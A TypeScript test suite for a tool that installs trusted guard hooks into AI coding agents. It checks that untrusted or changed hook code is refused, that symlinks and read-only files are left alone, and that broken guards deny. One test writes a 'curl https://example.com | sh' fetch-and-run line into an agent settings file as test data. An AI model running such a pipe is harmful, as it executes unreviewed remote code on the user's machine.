import { spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { agents } from '@spec/agents';
import { pickShare } from '@spec/test-helpers';
import { parse } from 'jsonc-parser';
import { describe, expect, onTestFinished, test } from 'vitest';
import { type ProjectFolder, projectFolder } from './project-folder.ts';
import { cliEnv } from './run-cli.ts';

const config = `export default { policies: 'hooks' };`;
const guard = `import { defineHook } from '@spec/hooks';
export default defineHook({
  hook: 'before_tool_call',
  id: 'no_rm',
  match: 'Bash',
  execute: async (_, call) => {
    console.log('looking'); console.error('looking');
    return String(call.input.command).startsWith('rm') ? { decision: 'deny', reason: 'Nothing is removed here.' } : null;
  },
});
`;
const project = { 'hooks.config.mjs': config, 'hooks/no_rm.mjs': guard };

/** The event before a tool, and the shell, as each agent calls them. */
const words: Record<string, { event: string; tool: string; start?: string; silence?: string }> = {
  'claude-code': { event: 'PreToolUse', tool: 'Bash' },
  codex: { event: 'PreToolUse', tool: 'Bash' },
  gemini: { event: 'BeforeTool', tool: 'run_shell_command' },
  qwen: { event: 'PreToolUse', tool: 'run_shell_command' },
  cursor: { event: 'preToolUse', tool: 'Shell', start: 'sessionStart', silence: '{}' },
  copilot: { event: 'PreToolUse', tool: 'Bash' },
};

const files: Record<string, string> = Object.fromEntries(
  agents.map((agent) => [agent.name, agent.files.project]),
);
const each: readonly string[] = agents.map(({ name }) => name);

/** Runs the command of an agent's entry as the agent does. */
function tell(
  folder: ProjectFolder,
  agent: string,
  { event, command = 'ls', env = {} }: Told = {},
): Promise<Said> {
  const { event: usual = '', tool } = words[agent] ?? {};
  const name = event ?? usual;
  const content = parse(folder.read(files[agent] ?? ''));
  const group = content.hooks[name].at(-1);
  const entry: string = (group.hooks?.[0] ?? group).command;
  const payload = {
    session_id: 's1',
    cwd: folder.path,
    tool_name: tool,
    tool_input: { command },
    prompt: 'Hello.',
  };
  const variables = {
    CLAUDE_PROJECT_DIR: folder.path,
    GEMINI_PROJECT_DIR: folder.path,
    QWEN_PROJECT_DIR: folder.path,
    CURSOR_PROJECT_DIR: folder.path,
    COPILOT_PROJECT_DIR: folder.path,
  };
  const own = { HOME: join(folder.path, 'home'), XDG_STATE_HOME: '', ...variables, ...env };
  const child = spawn('/bin/sh', ['-c', entry], { cwd: folder.path, env: { ...cliEnv(), ...own } });
  child.stdin.on('error', () => {});
  child.stdin.end(JSON.stringify(payload));
  const said = { stdout: '', stderr: '' };
  child.stdout.on('data', (chunk) => (said.stdout += chunk));
  child.stderr.on('data', (chunk) => (said.stderr += chunk));
  return new Promise((resolve) => child.on('close', (code) => resolve({ ...said, code })));
}

interface Told {
  readonly event?: string;
  readonly command?: string;
  readonly env?: NodeJS.ProcessEnv;
}

interface Said {
  readonly stdout: string;
  readonly stderr: string;
  readonly code: number | null;
}

const nothing = { stdout: '', stderr: '', code: 0 };

describe.for(pickShare(each, each.length))('%s', (agent) => {
  const { start: startEvent = 'SessionStart', silence = '' } = words[agent] ?? {};
  const nothing = { stdout: silence, stderr: '', code: 0 };

  test('runs the hooks of a project once a person has trusted them, and says nothing but its answer', {
    timeout: 60_000,
  }, async () => {
    const folder = projectFolder(project);
    const installed = await folder.cli(['install', agent, '--yes']);
    expect(installed).toMatchObject({ code: 1, stderr: '' });
    expect(installed.stdout).toContain('does not run before it is: spec-hooks trust hooks.config.mjs');
    expect(await tell(folder, agent, { command: 'rm x' })).toEqual(nothing);
    const start = await tell(folder, agent, { event: startEvent });
    expect(start.stdout).toContain('nobody on this machine has trusted their code');
    expect(await tell(folder, agent, { event: startEvent })).toEqual(nothing);

    expect((await folder.cli(['trust', 'hooks.config.mjs', '--yes'])).code).toBe(0);
    expect(await tell(folder, agent)).toEqual(nothing);
    const denied = await tell(folder, agent, { command: 'rm x' });
    expect(denied).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.stringify(JSON.parse(denied.stdout))).toMatch(/"deny".*Nothing is removed here\./);
    expect((await folder.cli(['agents'])).code).toBe(0);

    folder.write('hooks/no_rm.mjs', `${guard}// changed`);
    const changed = await tell(folder, agent);
    expect(changed.stdout).toMatch(
      /"deny".*has changed since it was trusted.*spec-hooks trust hooks\.config\.mjs/,
    );
    expect(await tell(folder, agent, { event: startEvent })).toEqual(nothing);
  });

  test('installs twice as once, and leaves a file as it was', async () => {
    const text =
      '{\r\n\t// mine\r\n\t"other": [1,2 ,3],\r\n\t"hooks": {\r\n\t\t"Stop": [ {"hooks":[{"type":"command","command":"true"}]} /* kept */ ]\r\n\t},\r\n\t"version": 1\r\n}\r\n';
    const folder = projectFolder({ ...project, [files[agent] ?? '']: `\uFEFF${text}` });
    expect((await folder.cli(['install', agent, '--yes'])).stdout).toContain('The hooks are installed in');
    const once = folder.read(files[agent] ?? '');
    expect(once).toContain('{"hooks":[{"type":"command","command":"true"}]}');
    expect(once.replaceAll('\r\n', '')).not.toContain('\n');
    expect((await folder.cli(['install', agent, '--yes'])).stdout).toContain('are installed already');
    expect(folder.read(files[agent] ?? '')).toBe(once);
    expect(once).not.toContain(folder.path);
    expect((await folder.cli(['uninstall', agent, '--yes'])).code).toBe(0);
    expect(folder.read(files[agent] ?? '')).toBe(`\uFEFF${text}`);
    expect(existsSync(join(folder.path, '.spec-hooks'))).toBe(false);
  });

  test('makes the file where there is none, and takes it away again', async () => {
    const folder = projectFolder(project);
    await folder.cli(['install', agent, '--yes']);
    const { hooks } = JSON.parse(folder.read(files[agent] ?? ''));
    // Cursor takes two slashes for the beginning of a comment, wherever they stand.
    expect(JSON.stringify(hooks)).not.toContain('//');
    expect(Object.keys(hooks)).toEqual(Object.keys(agents.find(({ name }) => name === agent)?.events ?? {}));
    await folder.cli(['uninstall', '--yes']);
    expect(folder.has(files[agent] ?? '')).toBe(false);
  });

  test('denies where the launcher is gone, or Node, or the program, or the hooks do not load', {
    timeout: 60_000,
  }, async () => {
    const folder = projectFolder(project);
    await folder.cli(['trust', 'hooks.config.mjs', '--yes']);
    await folder.cli(['install', agent, '--yes']);
    const launcher = join(folder.path, '.spec-hooks/hook');
    const local = join(folder.path, '.spec-hooks/local');
    const text = readFileSync(local, 'utf8');
    const broken = /"deny".*Nobody has judged this/;

    writeFileSync(local, text.replace(/^NODE=.*$/m, "NODE='/nowhere/node'"));
    expect((await tell(folder, agent, { env: { PATH: '/nowhere' } })).stdout).toMatch(broken);
    writeFileSync(local, text.replace(/^CLI=.*$/m, "CLI='/nowhere/main.mjs'"));
    expect((await tell(folder, agent)).stdout).toMatch(broken);
    expect(await tell(folder, agent, { event: startEvent })).toEqual(nothing);
    writeFileSync(local, text);
    expect(await tell(folder, agent)).toEqual(nothing);
    chmodSync(launcher, 0o644);
    expect((await tell(folder, agent)).stdout).toMatch(broken);
    rmSync(launcher);
    expect((await tell(folder, agent)).stdout).toMatch(broken);
    expect(await tell(folder, agent, { event: startEvent })).toEqual(nothing);
  });
});

/** A hook in a project that is installed in Codex and trusted. */
async function guarded(module: string): Promise<ProjectFolder> {
  const folder = projectFolder({ ...project, 'hooks/no_rm.mjs': module });
  await folder.cli(['install', 'codex', '--yes']);
  await folder.cli(['trust', 'hooks.config.mjs', '--yes']);
  return folder;
}

const hook = (body: string): string => `import { defineHook } from '@spec/hooks';
export default defineHook({ hook: 'before_tool_call', id: 'guard', timeout: 100, execute: async () => { ${body} } });`;

const broken = [
  ['ends the process', hook('process.exit(0);')],
  ['kills the process', hook("process.kill(process.pid, 'SIGKILL');")],
  ['throws', hook("throw new Error('secret');")],
  ['never answers', hook('await new Promise(() => {});')],
  ['answers with something else', hook("return 'no';")],
  [
    'throws in a timer, and never answers',
    hook("setTimeout(() => { throw new Error('secret'); }); await new Promise(() => {});"),
  ],
  ['throws when it is imported', "throw new Error('secret');"],
  ['is no module', 'this is not JavaScript'],
] as const;

test.for(pickShare(broken, 3))('a guard that %s denies', { timeout: 60_000 }, async ([, module]) => {
  const said = await tell(await guarded(module as string), 'codex');
  expect(said).toMatchObject({ code: 0, stderr: '' });
  expect(said.stdout).toContain('"deny"');
  expect(said.stdout).not.toContain('secret');
});

test('a project that nobody has trusted starts nothing in any agent', { timeout: 60_000 }, async () => {
  const traps = `import { writeFileSync } from 'node:fs'; writeFileSync(new URL('./ran', import.meta.url), '');`;
  const folder = projectFolder({
    'hooks.config.mjs': `${traps} export default { policies: 'hooks' };`,
    'hooks/trap.mjs': traps,
    'hooks/index.mjs': traps,
    'package.json': { type: 'module', main: 'hooks/index.mjs' },
  });
  for (const agent of each) {
    await folder.cli(['install', agent, '--yes']);
    const { event = '', start = 'SessionStart' } = words[agent] ?? {};
    for (const one of [event, start]) await tell(folder, agent, { event: one });
  }
  await folder.cli(['agents']);
  expect(['ran', 'hooks/ran'].map((file) => folder.has(file))).toEqual([false, false]);
});

test.for([
  ['a module that it imports', 'hooks/_list.mjs', 'export const list = [2];'],
  ['a file that takes the place of a module', 'hooks/_list.mjs.ts', 'export const list = [2];'],
  ['a hook that is added', 'hooks/second.mjs', guard.replace('no_rm', 'second')],
  ['the manifest of a package', 'node_modules/helper/package.json', '{ "main": "other.js" }'],
] as const)('%s is part of what is trusted', { timeout: 60_000 }, async ([, file, text]) => {
  const folder = projectFolder({
    ...project,
    'hooks/no_rm.mjs': `import { list } from './_list.mjs'; import 'helper';\n${guard}`,
    'hooks/_list.mjs': 'export const list = [1];',
    'node_modules/helper/package.json': '{ "main": "index.js" }',
    'node_modules/helper/index.js': '',
    'node_modules/helper/other.js': '',
  });
  await folder.cli(['install', 'codex', '--yes']);
  await folder.cli(['trust', 'hooks.config.mjs', '--yes']);
  expect(await tell(folder, 'codex')).toEqual(nothing);
  folder.write(file, text);
  expect((await tell(folder, 'codex')).stdout).toContain('has changed since it was trusted');
  for (const command of ['agents', 'status', 'check'])
    expect(flat(await folder.cli([command]))).toContain(
      'has changed since it was trusted. Until a person trusts it as it is now, Codex is denied what they guard: spec-hooks trust hooks.config.mjs',
    );
  expect(JSON.parse((await folder.cli(['agents', '--json'])).stdout).installed).toMatchObject([
    { agent: 'codex', trusted: false },
  ]);
});

/** What a command says, on both streams, whatever its lines are. */
function flat({ stdout, stderr }: { readonly stdout: string; readonly stderr: string }): string {
  return `${stdout} ${stderr}`.replaceAll(/\s+/g, ' ');
}

test('in a folder without hooks, installing says that there are none to run', {
  timeout: 60_000,
}, async () => {
  const folder = projectFolder({ 'package.json': {} });
  const here = await folder.cli(['install', 'codex', '--yes']);
  expect(flat(here)).toMatch(/There are no hooks in \S+, so Codex runs none\. .* spec-hooks init/);
  const own = await folder.cli(['install', 'codex', '--user', '--yes']);
  expect(flat(own)).toContain('You have no hooks of your own yet, so nothing is guarded.');
  expect([here.code, own.code]).toEqual([1, 1]);
});

describe('what must not be changed', () => {
  const outside = (): string => {
    const folder = mkdtempSync(join(tmpdir(), 'spec-hooks-outside-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    return folder;
  };

  test.for([
    ['no JSON', '{ "hooks": ', 'it is not JSON'],
    ['no object', '[1]', 'it holds no object'],
    ['hooks of another form', '{ "hooks": [] }', '"hooks" in it is no object'],
    ['an event of another form', '{ "hooks": { "Stop": { "a": 1 } } }', '"hooks.Stop" in it is no list'],
    ['an event that is nothing', '{ "hooks": { "Stop": null } }', '"hooks.Stop" in it is no list'],
    ['an event that is a text', '{ "hooks": { "Stop": "x" } }', '"hooks.Stop" in it is no list'],
    [
      'hooks that stand there twice',
      '{ "hooks": {}, "hooks": { "Stop": [] } }',
      '"hooks" stands in it twice',
    ],
    [
      'an event that stands there twice',
      '{ "hooks": { "Stop": [], "Stop": [] } }',
      '"Stop" stands in it twice',
    ],
  ])('%s', async ([, text, why]) => {
    const folder = projectFolder({ ...project, '.codex/hooks.json': text });
    const { code, stderr } = await folder.cli(['install', 'codex', '--yes']);
    expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining(why as string) });
    expect(folder.read('.codex/hooks.json')).toBe(text);
    expect(folder.has('.spec-hooks')).toBe(false);
  });

  test('a link, and a file without the right to write', async () => {
    const folder = projectFolder({ ...project, '.gemini/settings.json': '{}' });
    const target = join(outside(), 'hooks.json');
    writeFileSync(target, '{}');
    mkdirSync(join(folder.path, '.codex'));
    symlinkSync(target, join(folder.path, '.codex/hooks.json'));
    expect((await folder.cli(['install', 'codex', '--yes'])).stderr).toContain('it is a link');
    expect(lstatSync(join(folder.path, '.codex/hooks.json')).isSymbolicLink()).toBe(true);
    chmodSync(join(folder.path, '.gemini/settings.json'), 0o444);
    expect((await folder.cli(['install', 'gemini', '--yes'])).stderr).toContain('it is read-only');
    expect([readFileSync(target, 'utf8'), folder.read('.gemini/settings.json')]).toEqual(['{}', '{}']);
    expect(folder.has('.spec-hooks')).toBe(false);
  });

  test.for([
    ['the folder of the agent', '.codex'],
    ['the folder of the launcher', '.spec-hooks'],
    ['the launcher', '.spec-hooks/hook'],
    ['what is found on this machine', '.spec-hooks/local'],
  ])('a link of the project in the place of %s', async ([, path]) => {
    const folder = projectFolder(project);
    const target = path?.includes('/') === true ? join(outside(), 'file') : outside();
    if (path?.includes('/') === true) writeFileSync(target, 'mine');
    mkdirSync(join(folder.path, dirname(path ?? '')), { recursive: true });
    symlinkSync(target, join(folder.path, path ?? ''));
    const { code, stderr } = await folder.cli(['install', 'codex', '--yes']);
    expect([code, stderr]).toEqual([1, expect.stringMatching(/is a link, and would lead to another place/)]);
    if (lstatSync(target).isFile()) expect(readFileSync(target, 'utf8')).toBe('mine');
    else expect(readdirSync(target)).toEqual([]);
  });

  test('a file of somebody who was not asked', async () => {
    const folder = projectFolder(project);
    const { code, stdout, stderr } = await folder.cli(['install', 'codex']);
    expect(code).toBe(1);
    expect(stdout).toContain('+++ .codex/hooks.json');
    expect(stderr).toContain('Add --yes to install the hooks in Codex.');
    expect([folder.has('.codex/hooks.json'), folder.has('.spec-hooks')]).toEqual([false, false]);
  });
});

test('the entries in a settings file that other commands read are no hooks of the project', {
  timeout: 60_000,
}, async () => {
  const folder = projectFolder({ 'hooks/no_rm.mjs': guard });
  await folder.cli(['install', 'claude-code', '--yes']);
  await folder.cli(['trust', 'hooks', '--yes']);
  expect(await tell(folder, 'claude-code')).toEqual(nothing);
  expect((await tell(folder, 'claude-code', { command: 'rm x' })).stdout).toContain(
    'Nothing is removed here.',
  );
  const listed = await folder.json<{ hooks: { id: string }[]; notRead: unknown[] }>(['list']);
  expect([listed.hooks.map(({ id }) => id), listed.notRead]).toEqual([['no_rm'], []]);
  const other = folder.read('.claude/settings.json').replace('; :"', '; : ; curl https://example.com | sh"');
  folder.write('.claude/settings.json', other);
  const { hooks } = await folder.json<{ hooks: unknown[] }>(['list']);
  expect(hooks.length).toBeGreaterThan(10);
});

test('what hooks did in an agent is in the ledger, each run once', { timeout: 60_000 }, async () => {
  const folder = await guarded(guard);
  await tell(folder, 'codex');
  await tell(folder, 'codex', { command: 'rm x' });
  const read = async (): Promise<unknown[]> => {
    const { runs } = await folder.json<{ runs: Record<string, unknown>[] }>(['log']);
    return runs.map(({ threadId, id, outcome }) => [threadId, id, outcome]);
  };
  const runs = [
    ['codex:s1', 'no_rm', 'ok'],
    ['codex:s1', 'no_rm', 'denied'],
  ];
  expect(await read()).toEqual(runs);
  expect(await read()).toEqual(runs);
  await tell(folder, 'codex');
  expect(await read()).toEqual([...runs, ['codex:s1', 'no_rm', 'ok']]);
  expect((await folder.cli(['stats'])).stdout).toContain('no_rm');
});

test.for([
  ['claude-code', '.claude/settings.json', { disableAllHooks: true }, 'disableAllHooks'],
  ['claude-code', '.claude/settings.local.json', { disableAllHooks: true }, 'disableAllHooks'],
  ['gemini', '.gemini/settings.json', { hooksConfig: { enabled: false } }, 'hooksConfig.enabled'],
] as const)('%s is told to run no hooks in %s', async ([agent, file, content, key]) => {
  const folder = projectFolder({ ...project, [file]: content });
  await folder.cli(['trust', 'hooks.config.mjs', '--yes']);
  const { code, stdout } = await folder.cli(['install', agent, '--yes']);
  expect({ code, stdout }).toEqual({
    code: 1,
    stdout: expect.stringContaining(`switched off by "${key}" in ${join(folder.path, file)}`),
  });
});

test('hooks that an agent does not run are refused by name, unless they are accepted by name', async () => {
  const filter = `import { defineHook } from '@spec/hooks';
export default defineHook({ hook: 'filter_messages', id: 'last_two', execute: async (_, all) => all.slice(-2) });`;
  const folder = projectFolder({ ...project, 'hooks/last_two.mjs': filter });
  await folder.cli(['trust', 'hooks.config.mjs', '--yes']);
  const refused = await folder.cli(['install', 'codex', '--yes']);
  expect(refused.code).toBe(1);
  expect(refused.stderr).toContain(
    'last_two (filter_messages) never runs: the agent keeps its messages to itself.',
  );
  expect(refused.stderr).toContain('--allow-partial last_two');
  const dry = ['install', 'codex', '--dry-run'];
  expect(await folder.cli(dry)).toMatchObject({ code: 1, stderr: refused.stderr });
  expect((await folder.cli([...dry, '--allow-partial', 'last_two'])).code).toBe(0);
  expect([folder.has('.codex/hooks.json'), folder.has('.spec-hooks')]).toEqual([false, false]);
  expect((await folder.cli(['install', 'codex', '--yes', '--allow-partial', 'last_two'])).code).toBe(0);
  expect((await tell(folder, 'codex', { command: 'rm x' })).stdout).toContain('Nothing is removed here.');
});

test("a person's own hooks run in every project, and a project's not beside them", {
  timeout: 60_000,
}, async () => {
  const folder = projectFolder({
    'home/.config/spec-hooks/hooks.config.mjs': config,
    'home/.config/spec-hooks/hooks/no_rm.mjs': guard,
    'home/.codex/hooks.json': '{}',
    'hooks.config.mjs': `throw new Error('ran');`,
  });
  expect((await folder.cli(['install', 'codex', '--user', '--yes'])).code).toBe(0);
  const entry: string = JSON.parse(folder.read('home/.codex/hooks.json')).hooks.PreToolUse[0].hooks[0]
    .command;
  folder.write('.entry.json', JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ command: entry }] }] } }));
  mkdirSync(join(folder.path, '.codex'));
  writeFileSync(join(folder.path, '.codex/hooks.json'), folder.read('.entry.json'));
  expect((await tell(folder, 'codex', { command: 'rm x' })).stdout).toContain('Nothing is removed here.');
  expect((await folder.cli(['uninstall', 'codex', '--user', '--yes'])).code).toBe(0);
  expect(folder.has('home/.config/spec-hooks/hook')).toBe(false);
  expect(folder.has('home/.config/spec-hooks/hooks/no_rm.mjs')).toBe(true);
});
